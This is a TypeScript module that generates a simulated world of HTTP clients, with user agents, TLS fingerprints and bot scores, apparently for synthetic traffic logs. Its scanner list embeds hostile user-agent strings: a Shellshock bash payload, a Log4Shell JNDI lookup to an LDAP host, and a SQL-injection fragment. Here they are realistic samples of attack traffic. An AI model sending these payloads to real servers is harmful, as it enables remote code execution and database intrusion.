import { fakeHex, hash } from '../random.js'

/** Who is behind a user agent. */
export type AgentGroup = 'browser' | 'app' | 'service' | 'crawler' | 'scanner' | 'monitor' | 'healthcheck'

/** One client program: everything in a record that follows from it. */
export interface Agent {
  readonly index: number
  readonly group: AgentGroup
  readonly userAgent: string
  readonly weight: number
  readonly device: 'desktop' | 'mobile' | 'tablet'
  readonly protocol: string
  /** `none` on a Worker's sub-request and on plain http. */
  readonly tls: 'TLSv1.3' | 'TLSv1.2' | 'none'
  readonly cipher: string
  readonly ja3: string
  readonly ja4: string
  readonly ipClass: string
  readonly botScore: number
  readonly botScoreSource: string
  readonly botTags: readonly string[]
  readonly verifiedBot: string
}

const chrome = 'AppleWebKit/537.36 (KHTML, like Gecko) Chrome'
const safari = 'AppleWebKit/605.1.15 (KHTML, like Gecko) Version'

const byGroup: Record<AgentGroup, ReadonlyArray<readonly [userAgent: string, weight: number]>> = {
  browser: [
    [`Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${chrome}/142.0.0.0 Safari/537.36`, 150],
    [`Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${chrome}/141.0.0.0 Safari/537.36`, 60],
    [`Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${chrome}/109.0.0.0 Safari/537.36`, 9],
    [`Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${chrome}/142.0.0.0 Safari/537.36 Edg/142.0.0.0`, 62],
    [`Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) ${chrome}/142.0.0.0 Safari/537.36`, 70],
    [`Mozilla/5.0 (X11; Linux x86_64) ${chrome}/142.0.0.0 Safari/537.36`, 16],
    [`Mozilla/5.0 (Linux; Android 10; K) ${chrome}/142.0.0.0 Mobile Safari/537.36`, 170],
    [`Mozilla/5.0 (Linux; Android 10; K) ${chrome}/140.0.0.0 Mobile Safari/537.36`, 40],
    [`Mozilla/5.0 (Linux; Android 13; SM-X200) ${chrome}/142.0.0.0 Safari/537.36`, 8],
    [
      `Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 ` +
        'Mobile Safari/537.36',
      22,
    ],
    [`Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) ${safari}/18.6 Mobile/15E148 Safari/604.1`, 120],
    [`Mozilla/5.0 (iPhone; CPU iPhone OS 26_1 like Mac OS X) ${safari}/26.1 Mobile/15E148 Safari/604.1`, 60],
    [`Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) ${safari}/18.6 Mobile/15E148 Safari/604.1`, 14],
    [`Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) ${safari}/18.6 Safari/605.1.15`, 42],
    ['Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0', 34],
    ['Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0', 10],
    ['Mozilla/5.0 (Android 15; Mobile; rv:145.0) Gecko/145.0 Firefox/145.0', 5],
    [`Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${chrome}/140.0.0.0 YaBrowser/25.10.0.0 Safari/537.36`, 4],
    [
      'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/22G86 ' +
        '[FBAN/FBIOS;FBAV/535.0.0.54.108;FBBV/812345671;FBDV/iPhone15,3;FBMD/iPhone;FBSN/iOS;FBSV/18.6;FBSS/3;' +
        'FBCR/;FBID/phone;FBLC/fr_FR;FBOP/80]',
      9,
    ],
    ['Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; "Kiosk\\Lobby")', 0.4],
  ],
  app: [
    ['ExampleShop/8.4.1 (Android 15; Pixel 8) okhttp/4.12.0', 60],
    ['ExampleShop/8.4.0 (Android 14; SM-A546B) okhttp/4.12.0', 40],
    ['ExampleShop/7.9.2 (Android 11; Redmi Note 9) okhttp/4.9.3', 16],
    ['ExampleShop/8.4 CFNetwork/1568.300.101 Darwin/24.6.0', 60],
    ['ExampleShop/8.3 CFNetwork/1498.700.2 Darwin/23.6.0', 20],
    ['Boutique Éxample/8.4 (fr; été) CFNetwork/1568.300.101 Darwin/24.6.0', 3],
    ['示例商店/8.4.1 (Android 14; zh-CN) okhttp/4.12.0', 4],
  ],
  service: [
    ['axios/1.12.2', 40],
    ['Go-http-client/2.0', 30],
    ['python-requests/2.32.5', 26],
    ['node', 16],
    ['Java/17.0.12', 14],
    ['Apache-HttpClient/5.4.1 (Java/21.0.4)', 14],
    ['PostmanRuntime/7.49.0', 3],
    ['GuzzleHttp/7', 12],
    ['curl/8.14.1', 9],
    ['ExamplePartner/3.1 (+https://partner.example.org/bot)', 18],
    ['Faraday v2.13.4', 7],
    ['', 2],
  ],
  crawler: [
    ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 44],
    [
      `Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) ${chrome}/141.0.7390.122 Mobile Safari/537.36 ` +
        '(compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
      30,
    ],
    ['Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', 26],
    ['Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)', 22],
    ['Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)', 20],
    ['Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)', 18],
    ['Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)', 8],
    ['facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)', 8],
    ['Mozilla/5.0 (compatible; Bytespider; spider-feedback@bytedance.com)', 14],
  ],
  scanner: [
    ['python-requests/2.28.1', 18],
    ['Go-http-client/1.1', 16],
    ['curl/7.88.1', 14],
    ['', 10],
    ['Mozilla/5.0 zgrab/0.x', 10],
    ['Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)', 8],
    ['() { :; }; /bin/bash -c "echo \\"probe\\" > /tmp/x"', 2],
    ['sqlmap/1.8.4#stable (https://sqlmap.org)', 5],
    ['${jndi:ldap://198.18.0.9:1389/a}', 3],
    ["Mozilla/5.0 (Windows NT 6.1) ' OR '1'='1\\", 2],
    ['Сканер/1.0 «проверка» 🔍', 2],
    ['Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 5],
    ['bad\tagent\u0001with\u007fcontrols', 1],
    [`${'A'.repeat(900)}`, 0.4],
  ],
  monitor: [
    ['Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)', 10],
    ['Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)', 6],
    ['kube-probe/1.31', 4],
  ],
  healthcheck: [
    [
      'Mozilla/5.0 (compatible;Cloudflare-Healthchecks/1.0;+https://www.cloudflare.com/; healthcheck-id: ' +
        `${fakeHex('healthcheck', 16)})`,
      1,
    ],
  ],
}

/** Browsers speak HTTP/2 or HTTP/3, programs what their library knows; each combination is one agent here. */
function protocolsOf(group: AgentGroup, userAgent: string): Array<[protocol: string, share: number]> {
  if (group === 'browser')
    return [
      ['HTTP/2', 0.58],
      ['HTTP/3', 0.4],
      ['HTTP/1.1', 0.02],
    ]
  if (group === 'app')
    return [
      ['HTTP/2', 0.9],
      ['HTTP/3', 0.1],
    ]
  if (group === 'crawler')
    return [
      ['HTTP/1.1', 0.5],
      ['HTTP/2', 0.5],
    ]
  if (group === 'service')
    return userAgent.includes('HttpClient')
      ? [['HTTP/2', 1]]
      : [
          ['HTTP/1.1', 0.8],
          ['HTTP/2', 0.2],
        ]
  return [['HTTP/1.1', 1]]
}

/** Describes one user agent string as an agent; incidents may bring strings of their own. */
export function describeAgent(
  index: number,
  group: AgentGroup,
  userAgent: string,
  protocol: string,
  weight: number,
): Agent {
  const person = group === 'browser' || group === 'app'
  const old = group === 'scanner' || userAgent.includes('MSIE')
  const verified = group === 'crawler' && !userAgent.includes('Bytespider')
  const botScore = person ? 70 + ((hash(userAgent) >>> 0) % 30) : verified ? 1 : 2 + ((hash(userAgent) >>> 0) % 28)
  return {
    index,
    group,
    userAgent,
    weight,
    device: /iPad|SM-X200/.test(userAgent)
      ? 'tablet'
      : /Mobile|Android|iPhone|CFNetwork/.test(userAgent)
        ? 'mobile'
        : 'desktop',
    protocol,
    tls: old ? 'TLSv1.2' : 'TLSv1.3',
    cipher: old ? 'ECDHE-RSA-AES128-GCM-SHA256' : 'AEAD-AES128-GCM-SHA256',
    ja3: fakeHex(`ja3 ${userAgent.slice(0, 60)}`, 32),
    ja4:
      `t13d${person ? '1516' : '1011'}${protocol === 'HTTP/1.1' ? 'h1' : 'h2'}_` +
      `${fakeHex(`ja4a ${userAgent.slice(0, 60)}`, 12)}_${fakeHex(`ja4b ${userAgent.slice(0, 60)}`, 12)}`,
    ipClass:
      verified && /Google|bing|Yandex/.test(userAgent)
        ? 'searchEngine'
        : group === 'monitor'
          ? 'monitoringService'
          : group === 'scanner'
            ? 'badHost'
            : 'noRecord',
    botScore,
    botScoreSource: verified ? 'Verified Bot' : person ? 'Machine Learning' : 'Heuristics',
    botTags: group === 'app' ? ['api'] : [],
    verifiedBot: !verified
      ? ''
      : /Google|bing|Yandex/.test(userAgent)
        ? 'Search Engine Crawler'
        : userAgent.includes('GPT')
          ? 'AI Crawler'
          : userAgent.includes('facebook')
            ? 'Page Preview'
            : 'Search Engine Optimization',
  }
}

/** The agents of the simulated world. */
export function worldAgents(): Agent[] {
  const agents: Agent[] = []
  for (const group of Object.keys(byGroup) as AgentGroup[]) {
    for (const [userAgent, weight] of byGroup[group]) {
      for (const [protocol, share] of protocolsOf(group, userAgent)) {
        agents.push(describeAgent(agents.length, group, userAgent, protocol, weight * share))
      }
    }
  }
  return agents
}

/** The same program behind a Worker's sub-request or on plain http: no TLS towards the client. */
export function withoutTls(agent: Agent): Agent {
  return {
    ...agent,
    tls: 'none',
    cipher: 'NONE',
    ja3: '',
    ja4: '',
    protocol: agent.protocol === 'HTTP/3' ? 'HTTP/1.1' : agent.protocol,
  }
}
